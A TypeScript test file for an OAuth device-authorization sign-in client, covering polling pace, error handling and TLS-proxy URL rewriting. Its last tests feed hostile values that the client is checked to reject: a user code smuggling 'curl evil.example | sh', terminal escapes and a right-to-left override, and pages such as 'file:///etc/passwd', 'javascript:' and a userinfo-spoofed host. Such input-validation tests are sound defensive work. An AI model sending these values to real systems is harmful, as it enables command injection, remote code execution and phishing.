import assert from 'node:assert/strict';
import * as http from 'node:http';
import * as https from 'node:https';
import { silentLogger } from '../../../src/base/logger';
import { signInByDevice, type DeviceCode, type DeviceSignIn } from '../../../src/cloud/deviceFlow';
import { makeCertificate } from '../../helpers/certificate';
import { bodyOf, listen, type TestServer } from '../../helpers/httpServer';
import { requireTool } from '../../helpers/require';
import { useTempDir } from '../../helpers/tempDir';

const flow = { authorizationPath: '/device', tokenPath: '/token' };
const offer = {
  device_code: 'device+code',
  user_code: 'ABCD-EFGH',
  verification_uri: 'https://login.example/device',
  verification_uri_complete: 'https://login.example/device?user_code=ABCD-EFGH',
  expires_in: 900,
  interval: 5,
};

type Offer = Readonly<Record<string, unknown>>;
interface Answer {
  readonly status: number;
  readonly body: unknown;
  readonly headers?: Readonly<Record<string, string>>;
}
const pending: Answer = { status: 400, body: { error: 'authorization_pending' } };
const token: Answer = { status: 200, body: { access_token: 'the token', token_type: 'Bearer' } };

describe('The device authorization grant', () => {
  let server: TestServer;
  let codes: DeviceCode[];
  /** Time of each look, in seconds since the offer, and its form. */
  let looks: { readonly atS: number; readonly form: URLSearchParams }[];
  let seconds: number;

  beforeEach(() => {
    codes = [];
    looks = [];
    seconds = 0;
  });
  afterEach(() => server.close());

  async function serve(
    answers: readonly Answer[],
    authorization: Offer | ((host: string) => Offer) = offer,
    on = http.createServer(),
  ): Promise<void> {
    const left = [...answers];
    const handle = async (request: http.IncomingMessage, response: http.ServerResponse): Promise<void> => {
      const form = new URLSearchParams(await bodyOf(request));
      if (request.url === flow.authorizationPath) {
        const { host = '' } = request.headers;
        const made = typeof authorization === 'function' ? authorization(host) : authorization;
        response.end(JSON.stringify(made));
        return;
      }
      looks.push({ atS: seconds, form });
      const { status, body, headers } = left.shift() ?? pending;
      response.writeHead(status, headers).end(JSON.stringify(body));
    };
    on.on('request', (request, response) => void handle(request, response));
    server = await listen(on);
  }

  const signIn = (wait?: DeviceSignIn['wait']): Promise<string> =>
    signInByDevice({
      flow,
      endpoint: { baseUrl: server.url },
      onCode: (code) => codes.push(code),
      log: silentLogger,
      ...(wait && { wait }),
    });

  /** Signs in without waiting; what would have been waited for is added up. */
  const signInAtOnce = (): Promise<string> =>
    signIn((ms) => {
      seconds += ms / 1000;
      return Promise.resolve();
    });

  it('shows the code and the page that has it', async () => {
    await serve([token]);
    await signInAtOnce();

    assert.deepEqual(codes, [{ userCode: 'ABCD-EFGH', page: offer.verification_uri_complete }]);
  });

  it('shows the page without the code where there is no other', async () => {
    await serve([token], { ...offer, verification_uri_complete: null });
    await signInAtOnce();

    assert.equal(codes[0]?.page, offer.verification_uri);
  });

  describe('behind a proxy that ends TLS', () => {
    const dir = useTempDir();
    before(function () {
      requireTool(this, 'openssl');
    });

    it('shows the page of the cloud by https although the cloud names it by http', async () => {
      const named = (host: string): Offer => ({
        ...offer,
        verification_uri_complete: `http://${host}/device?user_code=ABCD-EFGH`,
      });
      await serve([token], named, https.createServer(makeCertificate(dir.path, 'cloud.test')));
      const baseUrl = `https://127.0.0.1:${server.port}`;
      await signInByDevice({
        flow,
        endpoint: { baseUrl, network: { strictTls: false } },
        onCode: (code) => codes.push(code),
        log: silentLogger,
        wait: () => Promise.resolve(),
      });

      assert.equal(codes[0]?.page, `${baseUrl}/device?user_code=ABCD-EFGH`);
    });
  });

  it('asks for the token with the device’s code, as a form', async () => {
    await serve([token]);

    assert.equal(await signInAtOnce(), 'the token');
    assert.deepEqual(Object.fromEntries(looks[0]!.form), {
      grant_type: 'urn:ietf:params:oauth:grant-type:device_code',
      device_code: 'device+code',
    });
  });

  const paces: { name: string; answers: Answer[]; authorization?: Offer; atS: number[] }[] = [
    { name: 'as often as it is told', answers: [pending, pending, token], atS: [5, 10, 15] },
    {
      name: 'every five seconds if it is told nothing',
      answers: [pending, token],
      authorization: { ...offer, interval: undefined },
      atS: [5, 10],
    },
    {
      name: 'each second if it is told to look all the time',
      answers: [pending, token],
      authorization: { ...offer, interval: 0 },
      atS: [1, 2],
    },
    {
      name: 'five seconds later each time once it is told to slow down',
      answers: [{ status: 400, body: { error: 'slow_down' } }, pending, token],
      atS: [5, 15, 25],
    },
    {
      name: 'as slowly as it is told to',
      answers: [{ status: 400, body: { error: 'slow_down', interval: 20 } }, token],
      atS: [5, 25],
    },
    {
      name: 'as late as a limit of requests asks for',
      answers: [{ status: 429, body: { error: 'too many' }, headers: { 'retry-after': '15' } }, token],
      atS: [5, 20],
    },
    {
      name: 'less and less while the server fails, and then as before',
      answers: [{ status: 502, body: 'x' }, { status: 503, body: 'x' }, pending, token],
      atS: [5, 15, 35, 40],
    },
  ];
  for (const { name, answers, authorization, atS } of paces) {
    it(`looks ${name}`, async () => {
      await serve(answers, authorization);
      await signInAtOnce();

      assert.deepEqual(
        looks.map((look) => look.atS),
        atS,
      );
    });
  }

  const ends: { name: string; answer: Answer; code: string }[] = [
    { name: 'is refused', answer: { status: 400, body: { error: 'access_denied' } }, code: 'denied' },
    { name: 'has expired', answer: { status: 400, body: { error: 'expired_token' } }, code: 'expired' },
    { name: 'is unknown', answer: { status: 400, body: { error: 'invalid_grant' } }, code: 'invalid' },
    { name: 'is answered with nonsense', answer: { status: 200, body: { token: 1 } }, code: 'protocol' },
  ];
  for (const { name, answer, code } of ends) {
    it(`ends when the code ${name}`, async () => {
      await serve([pending, answer]);

      await assert.rejects(signInAtOnce(), { code });
      assert.equal(looks.length, 2);
    });
  }

  it('ends when nobody confirms the code in time', async () => {
    await serve([], { ...offer, expires_in: 0.1, interval: 0 });

    await assert.rejects(signIn(), { code: 'expired' });
  });

  it('ends when the person gives up', async () => {
    await serve([]);

    await assert.rejects(
      signIn(() => Promise.reject(new Error('given up'))),
      /given up/,
    );
    assert.deepEqual(looks, []);
  });

  const pages = [
    'file:///etc/passwd',
    'vscode://evil',
    'javascript:alert(1)',
    'http://login.example/',
    'https://app.all-hands.dev@evil.example/',
    'nothing',
  ];
  for (const page of pages) {
    it(`does not show the page ${page}`, async () => {
      await serve([token], { ...offer, verification_uri_complete: page });

      await assert.rejects(signIn(), { code: 'protocol' });
      assert.deepEqual(codes, []);
    });
  }

  for (const code of ['AB\ncurl evil.example | sh\n', 'AB\u202eCD', '\u001b[2J', '']) {
    it(`does not show the code ${JSON.stringify(code)}`, async () => {
      await serve([token], { ...offer, user_code: code });

      await assert.rejects(signIn(), { code: 'protocol' });
      assert.deepEqual(codes, []);
    });
  }
});
